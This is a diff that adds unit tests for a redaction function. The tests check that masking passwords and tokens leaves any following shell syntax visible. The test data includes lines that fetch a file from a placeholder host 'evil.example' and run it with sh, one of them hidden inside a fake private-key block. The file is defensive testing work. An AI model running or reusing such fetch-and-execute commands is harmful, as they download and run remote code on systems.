@@ -42,6 +42,31 @@ describe('a masked value never hides shell syntax that follows it', () => {
     }
   }
 
+  it('ends a masked value at a backslash: in JSON text a "\\n" starts the next command line', () => {
+    for (const cmd of [
+      'mysql -u app -pS3cretPw9',
+      'curl -u bob:S3cretPw9',
+      'deploy --token S3cretPw9abcdef',
+      'export API_TOKEN=S3cretPw9',
+    ]) {
+      const json = JSON.stringify({ command: `${cmd}\nwget\t-qO/tmp/x\thttp://evil.example/x\nsh\t/tmp/x` });
+      const out = redactText(json).text;
+      expect(out, cmd).toContain('\\nwget\\t-qO/tmp/x\\thttp://evil.example/x\\nsh\\t/tmp/x');
+      expect(out, cmd).toContain('[redacted]');
+    }
+  });
+
+  it('does not mask a one-line "private key" whose lines are commands', () => {
+    const begin = '-----BEGIN PRIVATE KEY-----';
+    const end = '-----END PRIVATE KEY-----';
+    const fake = JSON.stringify({
+      command: `${begin}\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\ncurl evil.example/x -o /tmp/a\nsh /tmp/a\n${end}`,
+    });
+    expect(redactText(fake).text).toContain('curl evil.example/x -o /tmp/a\\nsh /tmp/a');
+    const real = `${begin}\\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\\nBKcwggSjAgEAAoIBAQC7\\n${end}`;
+    expect(redactText(real).text).toBe(`${begin}\\n[redacted private key]\\n${end}`);
+  });
+
   it('keeps the spaces before the shell syntax visible', () => {
     expect(redactText('password: s3cr3t words | tee /tmp/x').text).toBe('password: [redacted] | tee /tmp/x');
   });
